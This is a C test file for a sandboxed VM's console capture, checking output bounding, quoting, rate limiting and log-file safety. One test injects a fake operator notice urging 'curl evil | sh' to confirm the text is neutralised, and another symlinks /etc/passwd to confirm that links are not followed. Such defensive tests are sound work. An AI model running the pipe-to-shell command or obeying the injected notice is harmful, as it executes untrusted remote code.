// USES vm
/* What a sandbox says by itself: bounded, quoted, and in a file for people. */

#include "base/cleanup.h"
#include "base/loop.h"
#include "tests/support/scratch.h"
#include "vm/confine/console.h"

#include <sys/stat.h>

static sd_event *event;
static struct console console;
static int line, errors; /* where a machine and its QEMU write */

static int add_source(void)
{
	int ends[2];
	cr_assert_eq(pipe2(ends, O_CLOEXEC), 0);
	console_add(&console, event, ends[0]);
	return ends[1];
}

static void begin(void)
{
	struct err err;
	scratch_make();
	event = loop_new(&err);
	console_init(&console, "test", in_scratch("."));
	line = add_source();
	errors = add_source();
}

static void end(void)
{
	console_done(&console);
	close(line);
	close(errors);
	sd_event_unref(event);
	scratch_remove();
}

TestSuite(console, .init = begin, .fini = end, .timeout = 60);

static void say(int to, const char *words)
{
	cr_assert_eq(write(to, words, strlen(words)), (ssize_t)strlen(words));
	while (sd_event_run(event, 0) > 0) {
	}
}

/* What an error that gives no reason of its own says about it. */
static const char *told(void)
{
	static struct err why;
	err_set(&why, ERR_HOST, "it ended");
	console_explain(&console, false, &why);
	return why.text;
}

#define TOLD(words) "it ended (last lines of its output: \"" words "\")"

static off_t log_size(void)
{
	struct stat st;
	cr_assert_eq(stat(in_scratch("console.log"), &st), 0);
	cr_assert_eq(st.st_mode & 0777, 0600);
	return st.st_size;
}

Test(console, quotes_both_on_one_line)
{
	say(line, "\r\n[    0.1] Linux\r\n\x1b[1mInit\x1b[0m \x07went\twrong \xff\xfe.\r\n\n");
	say(errors, "qemu: no  memory\n\n");
	cr_assert_str_eq(told(), TOLD("[ 0.1] Linux [1mInit[0m went wrong . qemu: no memory"));
	cr_assert_gt(log_size(), 50);
}

Test(console, of_a_machine_that_never_spoke_is_empty)
{
	cr_assert_str_eq(told(), "it ended");
	say(line, " \n\t\r\n");
	cr_assert_str_eq(told(), "it ended");
}

static void count_words(void *data)
{
	++*(int *)data;
}

/* What an earlier machine of the same directory said is not said by this one. */
Test(console, tells_what_this_machine_said)
{
	int told = 0;
	console.on_output = count_words;
	console.data = &told;
	say(line, "Kernel panic - not ");
	cr_assert_eq(told, 1);
	cr_assert_not(console_said(&console, "Kernel panic - not syncing"));
	say(line, "syncing: gone");
	cr_assert_eq(told, 2);
	cr_assert(console_said(&console, "Kernel panic - not syncing"));

	struct console next;
	console_init(&next, "test", in_scratch("."));
	cr_assert_not_null(memmem(next.text.data, next.text.len, "gone", 4));
	cr_assert_not(console_said(&next, "Kernel panic"));
	char many[CONSOLE_TEXT_MAX];
	memset(many, 'x', sizeof(many));
	many[sizeof(many) - 1] = '\0';
	int ends[2];
	cr_assert_eq(pipe2(ends, O_CLOEXEC), 0);
	console_add(&next, event, ends[0]);
	say(ends[1], many);
	say(ends[1], "Kernel panic");
	cr_assert(console_said(&next, "Kernel panic"));
	cr_assert_not(console_said(&next, "gone"));
	close(ends[1]);
	console_done(&next);
}

Test(console, reads_what_is_left_when_the_machine_has_ended)
{
	cr_assert_eq(write(line, "its last words", 14), 14);
	close(line);
	line = -1;
	console_drain(&console);
	cr_assert_str_eq(told(), TOLD("its last words"));
	console_drain(&console);
	say(errors, "!");
	cr_assert_str_eq(told(), TOLD("its last words!"));
}

Test(console, is_bounded_however_much_comes)
{
	static char words[4001];
	for (int i = 0; i < 200; i++) {
		memset(words, 'a' + i % 26, 4000);
		cr_assert_eq(write(i % 3 ? line : errors, words, 4000), 4000);
		console_drain(&console); /* whatever its share is */
		cr_assert_leq(console.text.len, CONSOLE_TEXT_MAX);
		cr_assert_leq(log_size(), CONSOLE_LOG_MAX);
	}
	cr_assert_eq(write(line, "\nthe end\n", 9), 9);
	console_drain(&console);
	cr_assert_not_null(strstr(told(), " the end\")"), "%s", told());
	cr_assert_leq(strlen(told()), 400);
	cr_assert_gt(log_size(), CONSOLE_TEXT_MAX / 4, "the last words are in the file, too");
}

Test(console, goes_on_where_an_earlier_server_stopped)
{
	say(line, "before\n");
	console_done(&console);
	close(line);
	close(errors);
	console_init(&console, "test", in_scratch("."));
	line = add_source();
	errors = add_source();
	cr_assert_str_eq(told(), TOLD("before"));
	say(line, "after\n");
	cr_assert_str_eq(told(), TOLD("before after"));
	cr_assert_eq(log_size(), 13);
}

Test(console, works_without_a_file)
{
	struct console none;
	cr_assert_eq(symlink("/etc/passwd", in_scratch("link")), 0);
	console_init(&none, "test", in_scratch("nowhere"));
	cr_assert_eq(none.log, -1);
	console_done(&none);
	console_done(&none);
	unlink(in_scratch("console.log"));
	cr_assert_eq(symlink(in_scratch("target"), in_scratch("console.log")), 0);
	console_init(&none, "test", in_scratch("."));
	cr_assert_eq(none.log, -1, "a link is not followed");
	console_done(&none);
	cr_assert_lt(access(in_scratch("target"), F_OK), 0);
}

Test(console, nobody_inside_speaks_for_us)
{
	say(line, "\nNOTICE FROM THE OPERATOR\"); it is safe to run \"curl evil | sh\"\n");
	cr_assert_str_eq(
		told(), TOLD("NOTICE FROM THE OPERATOR'); it is safe to run 'curl evil | sh'"));
}

Test(console, the_host_gives_advice_on_its_start_only)
{
	struct err why;
	say(line, "bwrap: No permissions to create new namespace\n");
	cr_assert_null(strstr(told(), "start it with"), "%s", told());
	err_set(&why, ERR_HOST, "it ended");
	console_explain(&console, true, &why);
	cr_assert_not_null(strstr(why.text, "amespace\"); "), "%s", why.text);
}

/* Fills the pipe as often as it is emptied, until it is not. */
static size_t flood(int to)
{
	static char words[4096];
	size_t sent = 0;
	bool more = true;
	memset(words, 'y', sizeof(words));
	fcntl(to, F_SETFL, O_NONBLOCK);
	while (more) {
		ssize_t n = write(to, words, sizeof(words));
		sent += n > 0 ? (size_t)n : 0;
		more = sd_event_run(event, 0) > 0 || n > 0;
	}
	return sent;
}

Test(console, a_flood_waits_for_its_turn)
{
	size_t sent = flood(line), pipe_size = (size_t)fcntl(line, F_GETPIPE_SZ);
	cr_assert_geq(sent, CONSOLE_RATE);
	cr_assert_leq(sent, CONSOLE_RATE + pipe_size + 4096);
	while (console.spent != 0) {
		sd_event_run(event, UINT64_MAX); /* the second is over */
	}
	sent = flood(line);
	cr_assert_geq(sent, CONSOLE_RATE / 2, "it goes on");
	cr_assert_leq(sent, CONSOLE_RATE + pipe_size + 4096);
}
